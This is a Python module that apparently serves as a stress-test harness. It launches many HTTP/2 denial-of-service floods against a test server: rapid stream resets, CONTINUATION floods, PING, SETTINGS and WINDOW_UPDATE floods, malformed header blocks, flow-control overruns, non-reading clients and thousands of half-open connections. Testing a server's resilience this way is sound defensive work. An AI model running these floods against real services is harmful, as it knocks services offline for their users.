"""Floods of frames over HTTP/2 that cost a client little: rows of attacks.py. Each has 8 connections, and a new one for
each that the server ends."""

import contextlib
import threading
import time
from collections.abc import Callable, Iterator

from attacked_server import BASIN, RECORDS, Server
from hpack import Encoder

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONNECTIONS = 8
STREAMS = 50_000
FRAMES = 1000  # in one write


def frame(kind: int, flags: int, stream: int, contents: bytes = b"") -> bytes:
    return len(contents).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + contents


def pseudo(method: str, path: str) -> list[tuple[str, str]]:
    return [(":method", method), (":scheme", "http"), (":authority", "s2"), (":path", path), ("s2-basin", BASIN)]


READ = [*pseudo("GET", RECORDS.format("large") + "?seq_num=0"), ("content-type", "s2s/proto")]
APPEND = [*pseudo("POST", RECORDS.format("beside")), ("content-type", "s2s/proto")]


def settings() -> bytes:
    return frame(SETTINGS, 0, 0)


def repeated(wire: bytes, opened: bool = False) -> Callable[[], Iterator[bytes]]:
    """The same frames without end, beside an append session where they are `opened` on one."""

    def writes() -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, 1, Encoder().encode(APPEND)) if opened else b""
        while True:
            yield wire * FRAMES

    return writes


def resets() -> Iterator[bytes]:
    encoder = Encoder()
    encoder.encode(READ)
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, Encoder().encode(READ))
    block = encoder.encode(READ)
    error = (8).to_bytes(4, "big")
    for begin in range(3, 2 * STREAMS, 100):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RST_STREAM, 0, stream, error)
            for stream in range(begin, begin + 100, 2)
        )


def slow_resets() -> Iterator[bytes]:
    """Each reset comes when its request is under way."""
    encoder = Encoder()
    error = (8).to_bytes(4, "big")
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, encoder.encode(READ))
        time.sleep(0.0005)
        yield frame(RST_STREAM, 0, stream, error)


def refused_heads() -> Iterator[bytes]:
    encoder = Encoder()
    for stream in range(1, 2 * STREAMS, 2):
        fields = [*READ, *[("x-a", "y" * 3000)] * 8]
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, encoder.encode(fields))


def continuations() -> Iterator[bytes]:
    yield frame(HEADERS, END_STREAM, 1, Encoder().encode(READ))
    while True:
        yield frame(CONTINUATION, 0, 1, b"") * FRAMES


def behind_goaway() -> Iterator[bytes]:
    """Requests on a connection that takes no more, since one of either side was to be the last: each is refused. One is
    under way, so that the connection stays."""
    yield frame(HEADERS, END_HEADERS, 1, Encoder().encode(APPEND)) + frame(GOAWAY, 0, 0, bytes(8))
    encoder = Encoder()
    encoder.encode(READ)
    block = encoder.encode(READ)
    yield frame(HEADERS, END_HEADERS | END_STREAM, 3, Encoder().encode(READ))
    for begin in range(5, 2 * STREAMS, 100):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(begin, begin + 100, 2)
        )


def malformed_blocks() -> Iterator[bytes]:
    """Each ends its connection: it refers to what is in no table."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff" * 2000)


def malformed_heads() -> Iterator[bytes]:
    """Each ends its stream: there is no path."""
    encoder = Encoder()
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, encoder.encode(READ[:3]))


def overruns() -> Iterator[bytes]:
    """More of a body than its window lets through, while its stream is not there to take it."""
    yield frame(HEADERS, END_HEADERS, 1, Encoder().encode(APPEND))
    while True:
        yield frame(DATA, 0, 1, b"\0\x0f\xff\xff" + bytes(16380)) * 16


def attack(writes: Callable[[], Iterator[bytes]], server: Server, until_s: float) -> Iterator[object]:
    def send() -> None:
        while time.monotonic() < until_s:
            with contextlib.suppress(OSError), server.connect() as connection:
                connection.sendall(PREFACE + settings())
                for data in writes():
                    # What comes is thrown away, so that it is no attack of one who does not read.
                    with contextlib.suppress(BlockingIOError):
                        connection.setblocking(False)
                        if not connection.recv(1 << 20):
                            break
                    connection.settimeout(max(0.1, until_s - time.monotonic()))
                    connection.sendall(data)
                    if time.monotonic() > until_s:
                        return

    threads = [threading.Thread(target=send, daemon=True) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    yield threads


def unread(server: Server, until_s: float) -> Iterator[object]:
    """200 readers on one connection each, whose windows take everything and who take nothing."""
    for _ in range(200):
        connection = server.connect()
        window = (2**31 - 1).to_bytes(4, "big")
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + window))
        connection.sendall(frame(WINDOW_UPDATE, 0, 0, (2**31 - 1 - 65535).to_bytes(4, "big")))
        connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, Encoder().encode(READ)))
        yield connection


def half_open(server: Server, until_s: float) -> Iterator[object]:
    """4000 connections that have sent half of a preface, one without settings, half of a head, or no request."""
    head = frame(HEADERS, 0, 1, Encoder().encode(READ))
    begins = (PREFACE[:10], PREFACE, PREFACE + settings() + head, PREFACE + settings())
    for number in range(4000):
        connection = server.connect()
        connection.sendall(begins[number % len(begins)])
        yield connection


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "h2-resets": resets,
    "h2-slow-resets": slow_resets,
    "h2-heads": refused_heads,
    "h2-continued": continuations,
    "h2-pings": repeated(frame(PING, 0, 0, bytes(8))),
    "h2-settings": repeated(frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")),
    "h2-priorities": repeated(frame(PRIORITY, 0, 3, bytes(5))),
    "h2-empty-data": repeated(frame(DATA, 0, 1), opened=True),
    "h2-byte-data": repeated(frame(DATA, 0, 1, b"\0"), opened=True),
    "h2-goaway": behind_goaway,
    "h2-goaways": repeated(frame(GOAWAY, 0, 0, bytes(8)), opened=True),
    "h2-malformed": malformed_blocks,
    "h2-no-path": malformed_heads,
    "h2-overruns": overruns,
    "h2-windows": repeated(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))),
}


def flood(writes: Callable[[], Iterator[bytes]]) -> Callable[[Server, float], Iterator[object]]:
    return lambda server, until_s: attack(writes, server, until_s)


ATTACKS = {"h2-unread": unread, "h2-half-open": half_open, **{name: flood(writes) for name, writes in FLOODS.items()}}
